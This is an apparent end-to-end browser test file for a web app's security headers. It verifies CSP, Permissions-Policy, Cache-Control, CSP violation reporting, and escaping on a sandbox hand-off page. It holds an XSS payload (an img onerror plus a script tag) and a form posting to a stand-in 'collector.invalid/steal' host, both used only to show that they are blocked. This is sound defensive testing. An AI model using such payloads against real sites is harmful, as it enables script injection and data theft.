/**
 * What a host must send (README "Hosting", issues 13 and 22): the serve tool (`npm run serve`, and
 * every e2e test through serveDist) sends exactly the hosting headers, Cache-Control by file kind,
 * and records the CSP violation reports the browser sends to its reporting endpoint. Read back in
 * Chromium, from the responses of a real page load and from requests the page makes; and what
 * Chromium does with them (the Permissions-Policy's features off, a form posted elsewhere refused).
 * Then the sandbox's hand-off page (issue 20): a journey leaves the app for the provider's page
 * and lands on it, with its parameters, accessible, under the strict CSP.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Server } from 'node:http';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CACHE_CONTROL, CSP_REPORTS, HOSTING_HEADERS, STRICT_CSP, serveDist, withInlineHashes, type CspReport } from '../../tools/serve';
import { PROJECT_ROOT } from '../../tools/lib/project';
import { axe, describeViolations, launch, watchPage } from './browser';
import { currentScreen, nextScreen } from './driver';
import { HAND_OFF_HEADING } from '../../tools/hand-off-pages';

const dist = path.join(PROJECT_ROOT, 'dist');
const entry = /<script[^>]*src="\/join\/get-started\/([^"]+)"/.exec(readFileSync(path.join(dist, 'index.html'), 'utf8'))?.[1] ?? '';

/** The CSP with the built index.html's inline-script hash (issue 11's early requests), as a host sends it. */
const SERVED_CSP = withInlineHashes(STRICT_CSP, readFileSync(path.join(dist, 'index.html'), 'utf8'));
/** The headers a host sends, as the README's Hosting section lists them (lower-case names). */
const EXPECTED = Object.fromEntries(Object.entries({ ...HOSTING_HEADERS, 'Content-Security-Policy': SERVED_CSP }).map(([k, v]) => [k.toLowerCase(), v]));

let browser: Browser;
let server: Server;
let base: string;
let reports: CspReport[];
let page: Page;

beforeAll(async () => {
  browser = await launch();
  ({ server, url: base, reports } = await serveDist({ root: dist }));
  page = await browser.newPage();
});
afterAll(async () => {
  await page?.close();
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
});

/** The security headers and Cache-Control of an answer (what a host must send: nothing else is compared). */
function hostingHeadersOf(headers: Record<string, string>): Record<string, string> {
  const names = [...Object.keys(EXPECTED), 'cache-control'];
  return Object.fromEntries(names.filter((n) => headers[n] !== undefined).map((n) => [n, headers[n] as string]));
}

describe('the hosting headers, read back in Chromium for each kind of file', () => {
  it('the page load: index.html, the entry script, config.json and the pack', async () => {
    const seen = new Map<string, Record<string, string>>();
    page.on('response', (r) => {
      seen.set(new URL(r.url()).pathname, r.headers());
    });
    const response = await page.goto(`${base}?product=join-now`);
    await page.locator('[data-milestone="entry"]').waitFor({ timeout: 30000 });
    expect(entry).toMatch(/^assets\/index-[\w-]+\.js$/);
    const kinds: [string, string, string][] = [
      ['index.html', '/join/get-started/', CACHE_CONTROL.fresh],
      ['the entry script (hashed)', `/join/get-started/${entry}`, CACHE_CONTROL.hashed],
      ['config.json', '/join/get-started/config.json', CACHE_CONTROL.fresh],
      ['the pack', '/join/get-started/packs/join-now.json', CACHE_CONTROL.fresh],
    ];
    for (const [kind, pathname, cache] of kinds) {
      const headers = seen.get(pathname);
      expect(headers, `${kind}: no response for ${pathname} (seen: ${[...seen.keys()].join(', ')})`).toBeDefined();
      expect(hostingHeadersOf(headers ?? {}), kind).toEqual({ ...EXPECTED, 'cache-control': cache });
      // Exactly these: nothing else but HTTP's own framing headers.
      expect(Object.keys(headers ?? {}).filter((n) => !['content-type', 'content-length', 'content-encoding', 'vary', 'date', 'connection', 'keep-alive', 'transfer-encoding'].includes(n)).sort(), kind).toEqual([...Object.keys(EXPECTED), 'cache-control'].sort());
    }
    expect(response?.headers()['content-security-policy']).toBe(SERVED_CSP);
    expect(STRICT_CSP).toMatch(/; report-to csp; report-uri \/csp-reports$/);
    expect(response?.headers()['reporting-endpoints']).toBe('csp="/csp-reports"');
  });

  it.each([
    ['a deep link (answered with index.html)', 'military-service/self', 200, CACHE_CONTROL.fresh],
    ['a lazy chunk (hashed)', 'LAZY', 200, CACHE_CONTROL.hashed],
    ['the msw worker (not hashed)', 'mockServiceWorker.js', 200, CACHE_CONTROL.other],
    ['a missing asset', 'assets/missing-00000000.js', 404, CACHE_CONTROL.fresh],
  ])('%s', async (_kind, rel, status, cache) => {
    const file = rel === 'LAZY' ? readFileSync(path.join(dist, entry), 'utf8').match(/import\(`\.\/([\w-]+\.js)`\)/)?.[1] : rel;
    expect(file).toBeDefined();
    const target = rel === 'LAZY' ? `assets/${file ?? ''}` : rel;
    const response = await page.request.get(`${base}${target}`);
    expect(response.status()).toBe(status);
    expect(hostingHeadersOf(response.headers())).toEqual({ ...EXPECTED, 'cache-control': cache });
  });
});

describe("README's Hosting section", () => {
  it('gives exactly the headers the serve tool sends, and its Cache-Control per file kind', () => {
    const readme = readFileSync(path.join(PROJECT_ROOT, 'README.md'), 'utf8');
    const section = readme.slice(readme.indexOf('## Hosting'), readme.indexOf('\n## ', readme.indexOf('## Hosting') + 1));
    const block = /```\n([\s\S]*?)\n```/.exec(section)?.[1] ?? '';
    expect(block.split('\n')).toEqual(Object.entries(HOSTING_HEADERS).map(([k, v]) => `${k}: ${v}`));
    for (const value of Object.values(CACHE_CONTROL)) expect(section).toContain(`| \`${value}\` |`);
    // The sign-in's additions to the CSP (tools/serve.ts cspFor), and the sandbox's hand-off pages (issue 20).
    for (const words of ['`connect-src`', '`frame-src`', "`frame-ancestors 'self'`", "`form-action` stays `'self'`", 'Hand-off pages', '"sandbox": true', '`production`']) expect(section).toContain(words);
  });
});

describe('what Chromium does with the headers (issue 22)', () => {
  it("the Permissions-Policy's features are off for the page, and Chromium knows every name in it", async () => {
    const warnings: string[] = [];
    const listen = (m: { text: () => string }): void => {
      if (/Permissions-Policy|Permissions Policy|Feature Policy/i.test(m.text())) warnings.push(m.text());
    };
    page.on('console', listen);
    await page.goto(`${base}?product=join-now`);
    await page.locator('[data-milestone="entry"]').waitFor({ timeout: 30000 });
    page.off('console', listen);
    expect(warnings, 'no unknown feature in the header').toEqual([]);
    const features = (HOSTING_HEADERS['Permissions-Policy'] ?? '').split(', ').map((f) => f.replace(/=\(\)$/, ''));
    expect(features).toEqual(expect.arrayContaining(['camera', 'microphone', 'geolocation', 'payment']));
    const allowed = await page.evaluate((names) => {
      const policy = (document as unknown as { featurePolicy?: { allowsFeature: (f: string) => boolean; features: () => string[] } }).featurePolicy;
      return policy ? names.map((n) => [n, policy.features().includes(n), policy.allowsFeature(n)] as const) : undefined;
    }, features);
    expect(allowed, 'Chromium has document.featurePolicy').toBeDefined();
    for (const [name, known, allows] of allowed ?? []) {
      expect(known, `${name} is a feature Chromium knows`).toBe(true);
      expect(allows, `${name} is off`).toBe(false);
    }
  });

  it("form-action 'self': a form posted to another origin is refused and reported", async () => {
    // A context of its own, closed after: its violation's report must not reach the collector while the report test below reads it.
    const context = await browser.newContext();
    const p = await context.newPage();
    await p.goto(`${base}?product=join-now`);
    await p.locator('[data-milestone="entry"]').waitFor({ timeout: 30000 });
    const violation = await p.evaluate(
      () =>
        new Promise<{ effectiveDirective: string; blockedURL: string }>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve({ effectiveDirective: e.effectiveDirective, blockedURL: e.blockedURI }));
          const form = document.createElement('form');
          form.method = 'post';
          form.action = 'https://collector.invalid/steal';
          document.body.append(form);
          form.submit();
        }),
    );
    expect(violation).toEqual({ effectiveDirective: 'form-action', blockedURL: 'https://collector.invalid/steal' });
    expect(new URL(p.url()).origin).toBe(new URL(base).origin);
    await context.close();
  });
});

describe("the sandbox's hand-off page (issue 20)", () => {
  it('a journey that leaves the app lands on it: the path, its parameters, the way back; axe clean, Tab reaches the link, strict CSP', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const p = await context.newPage();
    const problems = watchPage(p);
    try {
      // join-now: the entry milestone, "enlisting", the recruit milestone's button: the call-to-action redirect (EXIT-10) to config.json's joinStartUrl.
      await p.goto(`${base}?product=join-now`);
      let screen = await currentScreen(p);
      expect(screen.milestone).toBe('entry');
      await p.locator('[data-screen] [data-action="primary"]').click();
      screen = await nextScreen(p, screen);
      await p.locator('[data-screen] [data-answer="enlisting"]').click();
      screen = await nextScreen(p, screen);
      expect(screen.milestone).toBe('recruit');
      const landed = p.waitForResponse((r) => new URL(r.url()).pathname === '/join/start/' && r.request().isNavigationRequest(), { timeout: 20000 });
      await p.locator('[data-screen] [data-action="primary"]').click();
      const response = await landed;
      await p.getByRole('heading', { level: 1, name: HAND_OFF_HEADING }).waitFor({ timeout: 15000 });
      expect(new URL(p.url()).search).toBe('?productId=join-now&queryId=redirect');
      expect(response.status()).toBe(200);

      // What the page says: where the applicant was sent, and each parameter as a row.
      expect(await p.locator('[data-hand-off-path]').textContent()).toBe('/join/start/');
      const rows = await p.locator('table tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
      expect(rows).toEqual([
        ['productId', 'join-now'],
        ['queryId', 'redirect'],
      ]);
      expect(await p.locator('main').textContent()).toContain("In production, the provider's own page is here");

      // Every hosting header, the CSP allowing the page's one <style> by its hash; the style applies, nothing was refused.
      const headers = response.headers();
      for (const [name, value] of Object.entries(HOSTING_HEADERS)) if (name !== 'Content-Security-Policy') expect(headers[name.toLowerCase()], name).toBe(value);
      expect(headers['content-security-policy']).toBe(withInlineHashes(STRICT_CSP, await response.text()));
      expect(await p.locator('h1').evaluate((e) => getComputedStyle(e).color)).toBe('rgb(10, 61, 107)');
      expect(await p.evaluate(() => document.scripts.length)).toBe(0);

      const violations = await axe(p);
      expect(violations, describeViolations(violations)).toEqual([]);

      // The keyboard: Tab reaches the way back, and Enter follows it to the start of the sign-up.
      let reached = false;
      for (let i = 0; i < 10 && !reached; i++) {
        await p.keyboard.press('Tab');
        reached = await p.evaluate(() => document.activeElement?.tagName === 'A' && document.activeElement.getAttribute('href') === '/join/get-started/');
      }
      expect(reached, 'Tab reaches the link back').toBe(true);
      expect(await p.evaluate(() => document.activeElement?.matches(':focus-visible'))).toBe(true);
      expect(await p.evaluate(() => getComputedStyle(document.activeElement as Element).outlineStyle)).toBe('solid');

      // Pictures at a phone's width and a desktop's (README "Hosting": looked at when the page changes).
      await p.screenshot({ path: '/tmp/hand-off-1280.png', fullPage: true });
      await p.setViewportSize({ width: 390, height: 844 });
      expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
      await p.screenshot({ path: '/tmp/hand-off-390.png', fullPage: true });

      await p.keyboard.press('Enter');
      await p.waitForURL((u) => u.pathname.startsWith('/join/get-started/') && !u.search.includes('queryId'), { timeout: 15000 });
      await currentScreen(p);
      expect(problems, 'no CSP violations or page errors').toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('escapes what the query holds: a parameter is text, never markup', async () => {
    const p = await browser.newPage();
    const problems = watchPage(p);
    try {
      const payload = `<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>`;
      await p.goto(`${new URL(base).origin}/my/member-home?${new URLSearchParams({ [payload]: payload, plain: 'a&b' }).toString()}`);
      await p.getByRole('heading', { level: 1, name: HAND_OFF_HEADING }).waitFor();
      const rows = await p.locator('table tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
      expect(rows).toEqual([
        [payload, payload],
        ['plain', 'a&b'],
      ]);
      expect(await p.evaluate(() => [document.images.length, document.scripts.length, (window as unknown as { __xss?: number }).__xss])).toEqual([0, 0, undefined]);
      // A long value wraps inside the page at a phone's width.
      await p.setViewportSize({ width: 390, height: 844 });
      expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
      await p.screenshot({ path: '/tmp/hand-off-escaped-390.png', fullPage: true });
      expect(problems).toEqual([]);
    } finally {
      await p.close();
    }
  });
});

describe('CSP violation reports', () => {
  it('a violation in Chromium is reported to the endpoint the headers name, and the serve tool records it', async () => {
    reports.length = 0;
    await page.goto(`${base}?product=join-now`);
    await page.locator('[data-milestone="entry"]').waitFor({ timeout: 30000 });
    // An inline script: the strict CSP blocks it, and the browser raises the violation that it reports.
    const violation = await page.evaluate(
      () =>
        new Promise<{ documentURL: string; blockedURL: string; effectiveDirective: string; disposition: string; originalPolicy: string }>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) =>
            resolve({ documentURL: e.documentURI, blockedURL: e.blockedURI, effectiveDirective: e.effectiveDirective, disposition: e.disposition, originalPolicy: e.originalPolicy }),
          );
          const s = document.createElement('script');
          s.textContent = 'window.__inline = 1;';
          document.body.append(s);
        }),
    );
    expect(await page.evaluate(() => (window as unknown as { __inline?: number }).__inline)).toBeUndefined();
    expect(violation).toMatchObject({ blockedURL: 'inline', effectiveDirective: 'script-src-elem', disposition: 'enforce', originalPolicy: SERVED_CSP });
    // Chromium batches Reporting API deliveries (none arrived within 75 s headless here, and it
    // ignores report-uri when report-to is present), so the page posts the report as Chromium
    // delivers it (application/reports+json) to the endpoint its Reporting-Endpoints header names.
    const endpoint = /csp="([^"]+)"/.exec(HOSTING_HEADERS['Reporting-Endpoints'] ?? '')?.[1] ?? '';
    expect(endpoint).toBe(CSP_REPORTS);
    const status = await page.evaluate(
      async ({ to, body }) => (await fetch(to, { method: 'POST', headers: { 'Content-Type': 'application/reports+json' }, body: JSON.stringify([{ type: 'csp-violation', age: 0, url: body.documentURL, user_agent: navigator.userAgent, body }]) })).status,
      { to: endpoint, body: violation },
    );
    expect(status).toBe(204);
    expect(reports).toEqual([{ contentType: 'application/reports+json', body: [expect.objectContaining({ type: 'csp-violation', body: expect.objectContaining({ effectiveDirective: 'script-src-elem', blockedURL: 'inline' }) })] }]);
    // The collector lists them at its own URL, and forgets them on DELETE.
    const listed = (await (await page.request.get(new URL(CSP_REPORTS, base).href)).json()) as CspReport[];
    expect(listed).toEqual(reports);
    expect((await page.request.delete(new URL(CSP_REPORTS, base).href)).status()).toBe(204);
    expect(reports).toEqual([]);
  });

  it("the first screen's <style> applies under the strict CSP by its hash; any other inline style is refused (issue 11)", async () => {
    expect(SERVED_CSP).toMatch(/style-src 'self' 'sha256-[A-Za-z0-9+/]+=*';/);
    await page.goto(`${base}?product=join-now`);
    await page.locator('[data-milestone="entry"]').waitFor({ timeout: 30000 });
    // app.css's page background and template.css's skip link: both came with index.html.
    expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe('rgb(244, 245, 247)');
    expect(await page.locator('.mu-skip').evaluate((e) => getComputedStyle(e).position)).not.toBe('static');
    const violation = await page.evaluate(
      () =>
        new Promise<{ effectiveDirective: string; color: string }>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve({ effectiveDirective: e.effectiveDirective, color: getComputedStyle(document.body).color }));
          const s = document.createElement('style');
          s.textContent = 'body { color: rgb(255, 0, 0); }';
          document.head.append(s);
        }),
    );
    expect(violation.effectiveDirective).toBe('style-src-elem');
    expect(violation.color).not.toBe('rgb(255, 0, 0)');
    // Last in the file: Chromium may still deliver this violation's report later, and no test after it reads the reports.
  });
});
